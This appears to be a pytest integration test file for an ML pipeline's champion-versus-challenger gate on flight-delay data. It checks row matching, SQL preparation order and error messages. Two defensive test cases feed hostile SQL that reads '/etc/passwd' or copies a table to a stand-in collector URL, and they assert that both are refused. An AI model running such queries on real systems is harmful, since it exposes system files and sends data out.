"""Gates against a champion with other columns: each model has the same raw test rows as its own training prepared them."""

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from flywheel_runtime.commands.gates import main as gates
from tests.runtime.commands.flights import flights

pytestmark = pytest.mark.integration

DIGEST = "sha256:" + "a" * 64
BETTER = {"name": "better", "champion": {"metric": "roc_auc", "minGain": "0.002"}}
KEPT = "id, late, month, carrier, flywheel_split"
# The champion knows the number of a month's half; the challenger what makes flights late.
OLD = f"SELECT {KEPT}, CASE WHEN month > 6 THEN 2 ELSE 1 END AS half FROM flights"
NEW = f"SELECT {KEPT}, month * 2 + CASE WHEN carrier = 'DL' THEN 20 ELSE 0 END AS expected FROM flights"
Train = Callable[..., Path]


@pytest.fixture
def raw(checked: Any) -> Path:
    return Path(checked({"a.csv": flights(3000)}, target="late", keys=["id"], name="raw"))


@pytest.fixture
def prepared(run_prepare: Any) -> Callable[..., Path]:
    """prepared({"flights": folder}, sql, …) -> the folder of the data"""

    def build(tables: dict[str, Path], sql: str, **parameters: Any) -> Path:
        result = run_prepare(tables, sql, **parameters)
        assert result.code == 0, result.failure
        return Path(result.data)

    return build


@pytest.fixture
def trained(run_train: Any) -> Train:
    """trained(data, "half") -> the folder of a model that learnt from these numbers"""

    def build(data: Path, *numeric: str) -> Path:
        done = run_train(data, features={"numeric": list(numeric), "categorical": []})
        assert done.code == 0, done.failure
        return Path(done.root / "outputs/model")

    return build


@pytest.fixture
def measure(run_step: Any) -> Callable[..., tuple[dict[str, Any], dict[str, float]]]:
    """measure(own, *gates, model=…, champion=…, data=…, table=…) -> the findings by name, and the metrics"""

    def run(own: Any, *more: Any, **inputs: Path) -> tuple[dict[str, Any], dict[str, float]]:
        champion = {"version": "delay-1", "digest": DIGEST, "own": own}
        folders = {name.replace("_", "-"): folder for name, folder in inputs.items()}
        params = {"gates": [BETTER, *more], "objective": "roc_auc", "digest": DIGEST, "champion": champion}
        done = run_step(gates, folders, **params)
        assert done.code == 0, done.failure
        found = {each["name"]: each for each in done.output("gates/gates.json")["gates"]}
        return found, done.output("metrics.json")

    return run


def own_of(*queries: Any, parameters: Any = None, **more: Any) -> dict[str, Any]:
    """What the operator tells of the champion: its queries over the table `flights`, which is the input `table-flights`."""
    listed = [{"name": name, "from": tables, "sql": sql} for name, tables, sql in queries]
    tables = {"flights": "table-flights"}
    return {"preparation": {"tables": tables, "queries": listed, "parameters": parameters or {}}, **more}


@pytest.fixture(scope="module")
def built() -> dict[str, Path]:
    """What `versions` has built for all tests, which only read it."""
    return {}


@pytest.fixture
def versions(built: dict[str, Path], raw: Path, prepared: Any, trained: Train) -> dict[str, Path]:
    """The inputs of a gates' Job: a challenger that was trained on `expected` beside a champion that was trained on `half`."""
    if not built:
        old, new = prepared({"flights": raw}, OLD), prepared({"flights": raw}, NEW)
        models = {"model": trained(new, "expected"), "champion": trained(old, "half")}
        built.update({**models, "data": new, "champion_data": old, "table_flights": raw})
    return dict(built)


def test_each_model_has_the_same_rows_as_its_own_training_prepared_them(measure: Any, versions: Any) -> None:
    known = json.loads((versions["champion"] / "evaluation.json").read_text())["test"]["metrics"]["roc_auc"]

    found, metrics = measure(own_of(("features", ["flights"], OLD)), **versions)

    assert found["better"]["passed"], found
    assert (
        "of champion 'delay-1' on 450 test rows, each prepared as for its own training: gain 0."
        in found["better"]["message"]
    )
    assert metrics["champion_roc_auc"] == pytest.approx(known, abs=1e-6)
    assert metrics["roc_auc"] > known


def test_a_worse_challenger_with_other_columns_does_not_pass(measure: Any, versions: Any) -> None:
    swapped = {
        "model": versions["champion"], "champion": versions["model"], "data": versions["champion_data"],
        "champion_data": versions["data"], "table_flights": versions["table_flights"],
    }  # fmt: skip

    found, metrics = measure(own_of(("features", ["flights"], NEW)), **swapped)

    assert not found["better"]["passed"]
    assert "measured" not in found["better"]
    assert metrics["champion_roc_auc"] > metrics["roc_auc"]


def test_a_champion_of_raw_columns_needs_no_query(measure: Any, versions: Any, raw: Path, trained: Train) -> None:
    found, _ = measure(own_of(), **versions | {"champion": trained(raw, "temp", "express")})

    assert found["better"]["passed"], found
    assert "450 test rows, each prepared" in found["better"]["message"]


def test_queries_on_queries_with_values_run_in_their_order(measure: Any, versions: Any) -> None:
    first = ("halves", ["flights"], f"SELECT {KEPT}, month > $(params.last) AS late_half FROM flights")
    second = ("features", ["halves"], f"SELECT {KEPT}, CASE WHEN late_half THEN 2 ELSE 1 END AS half FROM halves")

    known = measure(own_of(("features", ["flights"], OLD)), **versions)[1]
    found, metrics = measure(own_of(first, second, parameters={"last": 6}), **versions)

    assert found["better"]["passed"], found
    assert metrics == known


def test_rows_that_one_preparation_drops_are_left_out_and_counted(measure: Any, versions: Any, prepared: Any) -> None:
    new = prepared({"flights": versions["table_flights"]}, f"{NEW} WHERE month <> 1")

    found, _ = measure(own_of(("features", ["flights"], f"{OLD} WHERE month <> 2")), **versions | {"data": new})

    assert found["better"]["passed"], found
    message = found["better"]["message"]
    rows = int(message.partition(" test rows")[0].rpartition(" ")[2])
    left_out = int(message.partition(" that only one preparation keeps")[0].rpartition("(")[2])
    assert 300 < rows < 450
    assert rows + left_out == 450


def test_other_gates_keep_the_rows_that_the_champion_drops(measure: Any, versions: Any) -> None:
    honest = {"name": "honest", "calibration": {"maxError": "99%"}}

    found, _ = measure(own_of(("features", ["flights"], f"{OLD} WHERE month > 2")), honest, **versions)

    assert "on 450 test rows" in found["honest"]["message"]


def test_an_earlier_version_is_measured_as_before_where_its_preparation_cannot_be_used(
    measure: Any, versions: Any, trained: Train
) -> None:
    same = {**versions, "champion": trained(versions["data"], "month")}

    found, _ = measure(own_of(("features", ["flights"], "SELECT nothing"), direct=True), **same)

    assert found["better"]["passed"], found
    assert "as the version's training prepared them (champion 'delay-1' has another" in found["better"]["message"]
    assert "step 'features' no longer runs" in found["better"]["message"]


@pytest.mark.parametrize(
    ("sql", "words"),
    [
        pytest.param("SELECT *, distance * 2 AS half FROM flights", 'or pin the version by spec.champion once: The SQL of this step cannot run: Binder Error: Referenced column "distance" not found', id="a column is gone"),
        pytest.param("SELECT * FROM read_csv('/etc/passwd')", "and nothing else", id="files are out of reach"),
        pytest.param("COPY flights TO 'http://collector.example/x'", "it is no SELECT", id="nothing is written"),
        pytest.param(OLD.replace("id, late,", "late,"), "set spec.keys of the Dataset, and select them", id="no key"),
        pytest.param(f"{OLD} UNION ALL {OLD}", "several test rows have the same value of 'id'", id="a key has two rows"),
        pytest.param(OLD.replace("late,", "(month > 9)::INTEGER AS late,"), "define the target in another way: 'late' differs on", id="another target"),
        pytest.param(OLD.replace("late,", "carrier AS who,"), "its preparation leaves no column 'late', the target", id="no target"),
        pytest.param(f"{OLD} WHERE flywheel_split = 'train' OR month = 3", "test rows are in both preparations; let them keep", id="too few rows"),
        pytest.param(OLD.replace("half", "other"), "its input 'half' is no column of the data", id="not what the model takes"),
    ],
)  # fmt: skip
def test_what_cannot_be_measured_says_what_would_make_it_so(measure: Any, versions: Any, sql: str, words: str) -> None:
    found, metrics = measure(own_of(("features", ["flights"], sql)), **versions)

    assert (found["better"]["passed"], found["better"]["measured"]) == (False, False)
    assert words in found["better"]["message"], found["better"]["message"]
    assert "champion 'delay-1' cannot be scored on the challenger's rows" in found["better"]["message"]
    assert set(metrics) == {"roc_auc"}


def test_raw_rows_that_are_gone_are_told_and_the_other_gates_are_measured(
    measure: Any, versions: Any, tmp_path: Path
) -> None:
    honest = {"name": "honest", "calibration": {"maxError": "99%"}}

    found, _ = measure(
        own_of(("features", ["flights"], OLD)), honest, **versions | {"table_flights": tmp_path / "gone"}
    )

    assert "the raw rows of table 'flights' are no longer in the store" in found["better"]["message"]
    assert found["honest"]["passed"]


@pytest.mark.parametrize(
    ("sql", "words"),
    [
        (OLD.replace("late,", "(month > 9)::INTEGER AS late,"), "define the target in another way"),
        (f"{OLD} WHERE flywheel_split = 'train' OR month = 3", "test rows are in both preparations"),
    ],
)
def test_an_earlier_version_of_another_target_or_other_rows_is_not_compared(
    measure: Any, versions: Any, trained: Train, sql: str, words: str
) -> None:
    same = {**versions, "champion": trained(versions["data"], "month")}

    found, _ = measure(own_of(("features", ["flights"], sql), direct=True), **same)

    assert (found["better"]["passed"], found["better"]["measured"]) == (False, False)
    assert words in found["better"]["message"]


@pytest.mark.parametrize("direct", [True, False])
def test_a_finding_of_the_operator_is_told(measure: Any, versions: Any, direct: bool) -> None:
    found, _ = measure({"finding": "it was brought; register it with its lineage", "direct": direct}, **versions)

    assert found["better"]["message"].endswith("it was brought; register it with its lineage")
    assert ("its input 'half' is no column of the data" in found["better"]["message"]) == direct


def test_the_test_rows_of_a_number_may_differ_in_its_last_digits(
    measure: Any, checked: Any, prepared: Any, run_train: Any
) -> None:
    raw = Path(checked({"a.csv": flights(1000)}, target="delay", keys=["id"], name="delays"))
    sql = "SELECT id, {} AS delay, month, temp, flywheel_split FROM flights"
    old, new = (prepared({"flights": raw}, sql.format(each)) for each in ("delay / 3 * 3", "delay"))
    asked = {"estimator": "Ridge", "objective": {"metric": "rmse"}}
    models = [
        Path(run_train(data, features={"numeric": names, "categorical": []}, **asked).root / "outputs/model")
        for data, names in ((new, ["month", "temp"]), (old, ["temp"]))
    ]
    inputs = {"model": models[0], "champion": models[1], "data": new, "table_flights": raw}
    gate = {"name": "rmse", "champion": {"metric": "rmse", "minGain": "0.1"}}

    found, _ = measure(own_of(("features", ["flights"], sql.format("delay / 3 * 3"))), gate, **inputs)

    assert found["rmse"]["passed"], found


def test_a_copy_of_the_raw_rows_under_another_order_is_matched_by_key(
    measure: Any, versions: Any, tmp_path: Path
) -> None:
    import duckdb

    shuffled = tmp_path / "shuffled"
    shutil.copytree(versions["table_flights"], shuffled)
    (shuffled / "test.parquet").unlink()
    source = versions["table_flights"] / "test.parquet"
    duckdb.sql(
        f"COPY (SELECT * FROM read_parquet('{source}') ORDER BY hash(id)) TO '{shuffled}/test.parquet' (FORMAT parquet)"
    )
    own = own_of(("features", ["flights"], OLD))

    known = measure(own, **versions)[1]
    assert measure(own, **versions | {"table_flights": shuffled})[1] == known
